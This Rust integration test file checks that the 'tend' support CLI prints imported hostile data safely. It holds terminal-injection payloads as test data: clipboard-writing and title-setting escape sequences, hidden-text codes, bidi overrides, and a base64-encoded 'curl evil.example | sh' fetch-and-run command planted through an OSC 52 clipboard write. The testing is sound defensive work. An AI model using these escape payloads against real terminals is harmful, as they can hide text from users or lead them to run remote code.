//! Text from strangers on the command line: the hostile fixtures go in through `tend import`;
//! every command that prints them writes nothing a terminal could act on (no ESC, no C1, no
//! bidi or zero-width character) unless `--raw` asks for the stored bytes, which it then gets
//! exactly; and `tend export` gives back, byte for byte, what was imported.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::{Home, expect_code, hostile};
use serde_json::Value;
use std::collections::HashMap;

const NOW: &str = "2026-11-22T09:00:00Z";

/// A home with every hostile fixture imported.
fn hostile_home() -> Home {
    let t = Home::new(NOW);
    for (kind, file) in [
        ("accounts", "accounts.csv"),
        ("contacts", "contacts.csv"),
        ("tickets", "tickets.csv"),
    ] {
        let out = t.ok(&["import", kind, hostile(file).to_str().unwrap()]);
        assert_safe(&format!("import {kind}"), &out);
        assert!(out.contains("rejected 0"), "{out}");
    }
    let out = t.ok(&[
        "import",
        "mbox",
        hostile("hostile.mbox").to_str().unwrap(),
        "--support",
        "@ourco.example",
    ]);
    assert_safe("import mbox", &out);
    assert!(out.contains("imported 3"), "{out}");
    t
}

/// Nothing a terminal could act on or hide.
fn assert_safe(what: &str, out: &str) {
    let bad = common::unsafe_chars(out);
    assert!(
        bad.is_empty(),
        "{what}: {:?} in\n{}",
        &bad[..bad.len().min(20)],
        out.chars().take(2000).collect::<String>()
    );
}

/// Run, expect exit 0; stdout and stderr, both checked safe.
fn safe_run(t: &Home, args: &[&str]) -> String {
    let out = t.run(args);
    expect_code(args, &out, 0);
    let stdout = String::from_utf8(out.stdout).unwrap_or_else(|e| panic!("{args:?}: not UTF-8: {e}"));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_safe(&format!("{args:?} stdout"), &stdout);
    assert_safe(&format!("{args:?} stderr"), &stderr);
    stdout
}

/// external_id -> id, for accounts or tickets.
fn ids(t: &Home, what: &str) -> HashMap<String, i64> {
    let args: Vec<&str> = match what {
        "accounts" => vec!["accounts", "list", "--format", "json"],
        _ => vec!["tickets", "list", "--all", "--format", "json"],
    };
    t.json(&args)
        .as_array()
        .unwrap()
        .iter()
        .map(|v| {
            (
                v["external_id"]
                    .as_str()
                    .map(str::to_string)
                    .unwrap_or_else(|| v["subject"].as_str().unwrap_or_default().to_string()),
                v["id"].as_i64().unwrap(),
            )
        })
        .collect()
}

/// The rows of a CSV as maps from header to cell, the bytes as they are.
fn csv_rows(bytes: &[u8]) -> Vec<HashMap<String, String>> {
    let mut r = csv::Reader::from_reader(bytes);
    let headers = r.headers().unwrap().clone();
    r.records()
        .map(|rec| {
            let rec = rec.unwrap();
            headers
                .iter()
                .zip(rec.iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

fn fixture_rows(name: &str) -> Vec<HashMap<String, String>> {
    csv_rows(&std::fs::read(hostile(name)).unwrap())
}

fn by(rows: &[HashMap<String, String>], key: &str, value: &str) -> HashMap<String, String> {
    rows.iter()
        .find(|r| r.get(key).map(String::as_str) == Some(value))
        .unwrap_or_else(|| panic!("no row with {key} = {value:?}"))
        .clone()
}

#[test]
fn imports_of_hostile_files_report_safely() {
    let t = hostile_home();
    // a dry run shows the mapping and the rows as they would be stored, cleaned
    let out = safe_run(
        &t,
        &[
            "import",
            "accounts",
            hostile("accounts.csv").to_str().unwrap(),
            "--dry-run",
        ],
    );
    assert!(out.contains("EvilCorp") && out.contains("column"), "{out}");

    // invalid UTF-8: the whole file is refused, nothing imported, the message is safe
    let out = t.run(&["import", "accounts", hostile("invalid_utf8.csv").to_str().unwrap()]);
    expect_code(&["import invalid_utf8.csv"], &out, 1);
    let err = String::from_utf8(out.stderr).unwrap();
    assert_safe("invalid UTF-8", &err);
    assert!(
        err.contains("is not UTF-8 text") && err.contains("Nothing was imported"),
        "{err}"
    );
    assert!(!ids(&t, "accounts").contains_key("H-11"), "nothing of the file went in");

    // refused rows quote what they refuse, cleaned; a 10 MiB cell is refused in one short line
    let bad = t.write(
        "bad.csv",
        "external_id,name,segment\nB-1,Fine,smb\nB-2,Bad,\u{1b}]52;c;QUJD\u{7}galactic\u{202E}\n",
    );
    let out = t.run(&["import", "accounts", bad.to_str().unwrap()]);
    expect_code(&["import bad.csv"], &out, 3);
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_safe("rejects", &stdout);
    assert!(stdout.contains("'galactic' is not a segment"), "{stdout}");
    let big = t.path("big.csv");
    std::fs::write(&big, format!("external_id,name\nB-3,{}\n", "N".repeat(common::BIG))).unwrap();
    let out = t.run(&["import", "accounts", big.to_str().unwrap()]);
    expect_code(&["import big.csv"], &out, 1);
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(
        stdout.contains("the limit is 1048576 bytes"),
        "{}",
        &stdout[..stdout.len().min(500)]
    );
    assert!(stdout.len() < 1000, "the refusal is short: {} bytes", stdout.len());

    // a mail import's summary as JSON: escaped, and the same text once decoded
    let out = safe_run(
        &t,
        &[
            "import",
            "mbox",
            hostile("hostile.mbox").to_str().unwrap(),
            "--support",
            "@ourco.example",
            "--format",
            "json",
        ],
    );
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["already"], 3, "{v}");
}

#[test]
fn every_command_prints_terminal_safe_text() {
    let t = hostile_home();
    let accounts = ids(&t, "accounts");
    let tickets = ids(&t, "tickets");
    let t1 = tickets["T-1"].to_string();
    let h1 = accounts["H-1"].to_string();
    let mut commands: Vec<Vec<String>> = Vec::new();
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<String>>();
    for f in ["table", "csv", "json"] {
        commands.push(s(&["accounts", "list", "--format", f]));
        commands.push(s(&["tickets", "list", "--all", "--format", f]));
        commands.push(s(&["tasks", "list", "--format", f]));
        commands.push(s(&["investigations", "list", "--format", f]));
        commands.push(s(&["sequences", "list", "--all", "--format", f]));
    }
    for id in accounts.values() {
        let id = id.to_string();
        commands.push(s(&["accounts", "show", &id]));
        commands.push(s(&["accounts", "show", &id, "--format", "json"]));
        commands.push(s(&["report", "qbr", &id]));
        commands.push(s(&["screen", "accounts", "--select", &id]));
    }
    for id in tickets.values() {
        let id = id.to_string();
        commands.push(s(&["tickets", "show", &id]));
        commands.push(s(&["tickets", "show", &id, "--format", "json"]));
        commands.push(s(&[
            "templates",
            "render",
            "acknowledgment",
            "--ticket",
            &id,
            "--allow-unfilled",
        ]));
    }
    for v in ["today", "accounts", "tickets", "investigations", "metrics"] {
        commands.push(s(&["screen", v]));
        commands.push(s(&["screen", v, "--width", "300", "--height", "80"]));
    }
    commands.push(s(&["today"]));
    commands.push(s(&["today", "--format", "md"]));
    commands.push(s(&["report", "plan"]));
    commands.push(s(&["report", "debt"]));
    commands.push(s(&["report", "outcomes"]));
    commands.push(s(&["health", "recompute"]));
    commands.push(s(&["health", "history", &h1]));
    commands.push(s(&["db", "check"]));
    for args in &commands {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        safe_run(&t, &args);
    }
    // and what the text says still shows
    let list = safe_run(&t, &["accounts", "list"]);
    for name in [
        "EvilCorp",
        "Acme gnp.exe",
        "東京スシ 🍣 Holdings",
        "TitleCo",
        "ClearScreen",
    ] {
        assert!(list.contains(name), "{name}:\n{list}");
    }
    let show = safe_run(&t, &["tickets", "show", &t1]);
    assert!(
        show.starts_with(&format!("Ticket {t1}: Invoice  overdue  now fdp.exe\n")),
        "{show}"
    );
    assert!(show.contains("  | red text and a clipboard write  here."), "{show}");
    let show = safe_run(&t, &["accounts", "show", &h1]);
    assert!(show.contains("owner Mallory ·"), "{show}");
    assert!(show.contains("Eve eve.lim <eve@evil.example> CTO"), "{show}");
}

#[test]
fn wide_names_keep_the_command_line_table_aligned() {
    let t = hostile_home();
    let list = safe_run(&t, &["accounts", "list"]);
    let header = list.lines().next().unwrap();
    let col = unicode_width::UnicodeWidthStr::width(&header[..header.find("SEGMENT").unwrap()]);
    for line in list.lines().skip(1) {
        let (before, after) = split_at_width(line, col);
        assert!(before.ends_with("  "), "{line}");
        assert!(
            ["Enterprise", "SMB", "Self-serve"].iter().any(|s| after.starts_with(s)),
            "the segment starts at column {col}: {line}"
        );
    }
}

/// `s` split where `cols` display columns end.
fn split_at_width(s: &str, cols: usize) -> (&str, &str) {
    let mut w = 0;
    for (i, c) in s.char_indices() {
        if w >= cols {
            return s.split_at(i);
        }
        w += unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
    }
    (s, "")
}

#[test]
fn raw_prints_the_stored_bytes() {
    let t = hostile_home();
    let accounts = ids(&t, "accounts");
    let tickets = ids(&t, "tickets");
    let fixture = fixture_rows("accounts.csv");
    let h1 = by(&fixture, "external_id", "H-1");
    let t1 = by(&fixture_rows("tickets.csv"), "external_id", "T-1");
    let h1_id = accounts["H-1"].to_string();
    let t1_id = tickets["T-1"].to_string();

    let show = t.ok(&["--raw", "accounts", "show", &h1_id]);
    assert!(
        show.starts_with(&format!("Account {h1_id}: {}\n", h1["name"])),
        "{show:?}"
    );
    assert!(show.contains(&format!("owner {} ·", h1["owner"])), "{show:?}");
    let show = t.ok(&["--raw", "tickets", "show", &t1_id]);
    assert!(
        show.starts_with(&format!("Ticket {t1_id}: {}\n", t1["subject"])),
        "{show:?}"
    );
    for line in t1["body"].lines() {
        assert!(show.contains(&format!("  | {line}\n")), "{line:?} in {show:?}");
    }
    // a listing as CSV: the cells as stored
    let csv = t.ok(&["--raw", "accounts", "list", "--format", "csv"]);
    let listed = csv_rows(csv.as_bytes());
    for row in &fixture {
        assert_eq!(
            by(&listed, "ID", &accounts[&row["external_id"]].to_string())["NAME"],
            row["name"]
        );
    }
    let csv = t.ok(&["--raw", "tickets", "list", "--all", "--format", "csv"]);
    assert_eq!(by(&csv_rows(csv.as_bytes()), "ID", &t1_id)["SUBJECT"], t1["subject"]);
    // a table does not cut or clean either
    let table = t.ok(&["--raw", "accounts", "list"]);
    assert!(table.contains(&h1["name"]), "{table:?}");
    // the digest and a report
    let mail = "Urgent \u{1b}]0;pwned\u{7} \u{1b}[31mred alert\u{1b}[0m";
    assert!(t.ok(&["--raw", "today"]).contains(mail));
    assert!(t.ok(&["--raw", "report", "qbr", &h1_id]).contains(&h1["name"]));
    // JSON stays JSON, the same text once decoded, with or without --raw
    for raw in [true, false] {
        let mut args = vec!["accounts", "show", &h1_id, "--format", "json"];
        if raw {
            args.insert(0, "--raw");
        }
        let v: Value = serde_json::from_str(&t.ok(&args)).unwrap();
        assert_eq!(v["account"]["name"].as_str().unwrap(), h1["name"], "raw={raw}");
        assert_eq!(v["account"]["owner"].as_str().unwrap(), h1["owner"], "raw={raw}");
    }
    // without --raw the same commands are clean
    assert_safe("show", &t.ok(&["accounts", "show", &h1_id]));

    // the cockpit and tend screen draw, they cannot print raw text: a usage error
    for args in [vec!["--raw", "screen", "today"], vec!["--raw"]] {
        let out = t.run(&args);
        expect_code(&args, &out, 2);
        let err = String::from_utf8(out.stderr).unwrap();
        assert!(err.contains("--raw") && err.contains("always cleaned"), "{err}");
    }
    let help = t.ok(&["--help"]);
    assert!(help.contains("--raw") && help.contains("exactly as stored"), "{help}");
}

#[test]
fn export_gives_back_exactly_what_was_imported() {
    let t = hostile_home();
    let exported = t.run(&["export", "accounts"]);
    expect_code(&["export accounts"], &exported, 0);
    let rows = csv_rows(&exported.stdout);
    for f in fixture_rows("accounts.csv") {
        let e = by(&rows, "external_id", &f["external_id"]);
        for field in ["name", "plan", "owner"] {
            assert_eq!(e[field].as_bytes(), f[field].as_bytes(), "{} {field}", f["external_id"]);
        }
    }
    let contacts = csv_rows(&t.run(&["export", "contacts"]).stdout);
    for f in fixture_rows("contacts.csv") {
        let e = by(&contacts, "email", &f["email"]);
        assert_eq!(e["name"], f["name"]);
        assert_eq!(e["role"], f["role"]);
    }
    let tickets_csv = t.run(&["export", "tickets"]).stdout;
    let tickets = csv_rows(&tickets_csv);
    for f in fixture_rows("tickets.csv") {
        let e = by(&tickets, "external_id", &f["external_id"]);
        assert_eq!(e["subject"], f["subject"], "{}", f["external_id"]);
        assert_eq!(e["body"], f["body"], "{}", f["external_id"]);
    }
    let t1 = by(&tickets, "external_id", "T-1");
    assert!(t1["tags"].contains("\u{1b}[5mblink"), "{:?}", t1["tags"]);
    assert!(t1["assignee"] == "mallory\u{1b}[8m", "{:?}", t1["assignee"]);
    // the mail's subject and body, as received
    let mail = tickets.iter().find(|r| r["subject"].starts_with("Urgent")).unwrap();
    assert_eq!(
        mail["subject"],
        "Urgent \u{1b}]0;pwned\u{7} \u{1b}[31mred alert\u{1b}[0m"
    );
    assert!(mail["body"].contains("\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u{7}"));

    // JSON: no raw escape on the way, the same strings once decoded
    let json = t.run(&["export", "tickets", "--format", "json"]).stdout;
    let json = String::from_utf8(json).unwrap();
    assert_safe("export json", &json);
    let v: Vec<Value> = serde_json::from_str(&json).unwrap();
    for row in &tickets {
        let j = v
            .iter()
            .find(|j| j["subject"].as_str() == Some(row["subject"].as_str()))
            .unwrap();
        assert_eq!(j["body"].as_str().unwrap(), row["body"]);
    }

    // to a file: the same bytes as to a pipe
    let file = t.path("accounts-out.csv");
    let out = t.run(&["export", "accounts", "--out", file.to_str().unwrap()]);
    expect_code(&["export --out"], &out, 0);
    assert_eq!(std::fs::read(&file).unwrap(), exported.stdout);

    // and round again: imported into a fresh database and exported, byte for byte the same
    let again = Home::new(NOW);
    again.ok(&["import", "accounts", file.to_str().unwrap()]);
    let second = again.run(&["export", "accounts"]);
    expect_code(&["export again"], &second, 0);
    assert_eq!(
        String::from_utf8_lossy(&second.stdout),
        String::from_utf8_lossy(&exported.stdout)
    );
    let tickets_file = again.write("tickets.csv", std::str::from_utf8(&tickets_csv).unwrap());
    again.ok(&["import", "tickets", tickets_file.to_str().unwrap()]);
    let tickets_again = csv_rows(&again.run(&["export", "tickets"]).stdout);
    for row in &tickets {
        let e = by(&tickets_again, "subject", &row["subject"]);
        assert_eq!(e["body"], row["body"]);
    }
}

#[test]
fn a_ten_megabyte_subject_on_the_command_line() {
    let t = Home::new(NOW);
    let mbox = t.path("big.mbox");
    common::write_big_mbox(&mbox);
    safe_run(
        &t,
        &["import", "mbox", mbox.to_str().unwrap(), "--support", "@ourco.example"],
    );
    let stored = t.json(&["tickets", "list", "--all", "--format", "json"]);
    let subject = stored[0]["subject"].as_str().unwrap().to_string();
    assert!(subject.len() >= common::BIG && subject.contains("\u{1b}]52;c;QUJD\u{7}"));
    let id = stored[0]["id"].to_string();

    // the listing cuts the cell: every line stays short, nothing unsafe
    let list = safe_run(&t, &["tickets", "list", "--all"]);
    assert!(list.len() < 2000, "{} bytes", list.len());
    assert!(list.contains("Huge XY XY") && list.contains('…'), "{list}");
    // show prints the subject whole, cleaned
    let show = safe_run(&t, &["tickets", "show", &id]);
    assert!(
        show.starts_with(&format!("Ticket {id}: Huge XY XY XY ")),
        "{}",
        &show[..100]
    );
    // --raw gives it back exactly
    let csv = t.run(&["--raw", "tickets", "list", "--all", "--format", "csv"]);
    assert_eq!(csv_rows(&csv.stdout)[0]["SUBJECT"], subject);

    // an export read only in part (`| head`) is not an error
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("tend"))
        .args(["--db", t.path("tend.db").to_str().unwrap(), "export", "tickets"])
        .env("HOME", t.path(""))
        .env_remove("TEND_CONFIG")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut head = [0u8; 100];
    std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut head).unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(out.stderr.is_empty(), "{}", String::from_utf8_lossy(&out.stderr));
}
